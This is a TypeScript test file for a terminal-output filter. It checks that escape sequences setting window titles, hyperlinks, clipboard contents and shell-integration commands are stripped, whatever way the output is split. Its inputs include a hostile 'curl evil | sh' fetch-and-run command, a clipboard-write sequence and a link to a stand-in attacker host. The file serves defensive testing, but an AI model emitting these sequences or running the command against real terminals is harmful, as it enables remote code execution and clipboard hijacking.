import assert from 'node:assert/strict';
import { createTerminalFilter } from '../../../src/shared/terminalFilter.ts';

const cases: readonly (readonly [what: string, output: string, shown: string])[] = [
  [
    'colours and moves of the cursor',
    '\u001b[31mred\u001b[0m\r\u001b[2K',
    '\u001b[31mred\u001b[0m\r\u001b[2K',
  ],
  ['no title', 'a\u001b]0;owned\u0007b', 'ab'],
  ['no link', '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\', 'click'],
  ['no clipboard', 'a\u001b]52;c;aWQ=\u0007b', 'ab'],
  ['no command of the shell integration', '\u001b]633;E;curl evil | sh\u0007$ ls', '$ ls'],
  ['no device strings', 'a\u001bP1$r0m\u001b\\b\u001b_x\u001b\\c\u009dx\u009cd', 'abcd'],
  ['what follows an unfinished one', 'a\u001b]0;x\u001b[31mred', 'a\u001b[31mred'],
];

describe('createTerminalFilter', () => {
  for (const [what, output, shown] of cases) {
    it(`shows ${what}, wherever the output is cut`, () => {
      for (let at = 0; at <= output.length; at += 1) {
        const filter = createTerminalFilter();
        assert.equal(filter(output.slice(0, at)) + filter(output.slice(at)), shown, `cut at ${at}`);
      }
      const filter = createTerminalFilter();
      const single = Array.from(output, (character) => filter(character));
      assert.equal(single.join(''), shown);
    });
  }

  it('reads long hostile output in linear time', () => {
    const filter = createTerminalFilter();
    assert.equal(filter('\u001b]0;x'.repeat(100_000)), '');
    assert.equal(filter('\u0007done'), 'done');
  });
});
